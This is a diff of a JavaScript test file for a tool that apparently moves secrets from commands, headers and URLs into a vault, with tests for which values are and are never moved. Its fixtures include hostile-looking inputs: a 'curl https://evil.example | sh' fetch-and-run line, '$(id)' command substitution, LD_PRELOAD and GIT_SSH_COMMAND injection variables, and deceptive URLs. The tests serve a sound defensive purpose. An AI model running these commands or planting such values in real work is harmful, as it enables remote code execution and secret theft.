@@ -65,7 +65,7 @@ describe('goes to the vault', () => {
     ['a variable', run('docker', ['run', '-i', '-e', 'GH_TOKEN', 'image'], { GH_TOKEN: TOKEN }), ['env.GH_TOKEN']],
     [
       'a header and a part of a URL',
-      reached(`https://a:hunter22@x.example`, { Authorization: `Bearer ${RANDOM}` }),
+      reached(`https://x.example/?key=hunter22`, { Authorization: `Bearer ${RANDOM}` }),
       ['url', 'headers.Authorization'],
     ],
   ])('%s', (_what, way, where) => {
@@ -88,6 +88,9 @@ describe('goes to the vault', () => {
     ['another option', run('mail', ['--token', '--eval-password'])],
     ['variables that change what runs', run('mail', [], { NODE_OPTIONS: TOKEN, LD_PRELOAD: TOKEN, GIT_SSH_COMMAND: TOKEN, PATH: TOKEN })],
     ['variables of something that is a program itself', run('sh', ['-c', 'eval "$TOKEN"'], { TOKEN: 'payload.sh' })],
+    ['a password in a URL', reached('https://a:hunter22@x.example')],
+    ['what only looks like a password, and is a path', reached('https://evil.example:443\\@good.example/mcp')],
+    ['a part of the host', reached(`https://x&token=${TOKEN}.good.example/`)],
     ['a variable that could be run', run('mail', [], { TOKEN: 'curl https://evil.example | sh', API_KEY: '$(id)' })],
   ])('never %s', async (_what, way) => {
     expect(movedOf(way)).toEqual([])
@@ -112,7 +115,7 @@ describe('moving', () => {
     const vault = await vaultIn(newFolder())
     const ways = [
       started({ DB_PASSWORD: 'hunter22', PLAIN: 'x', GH: TOKEN }, ['--token', 'hunter23', '--api-key=hunter24']),
-      reached(`https://ada:hunter22@x.example/?key=${RANDOM}&page=2`, { Authorization: `Bearer ${RANDOM}` }),
+      reached(`https://x.example/?token=hunter22&key=${RANDOM}&page=2`, { Authorization: `Bearer ${RANDOM}` }),
     ]
     for (const way of ways) {
       const moved = await moveSecrets(spec(way), vault)
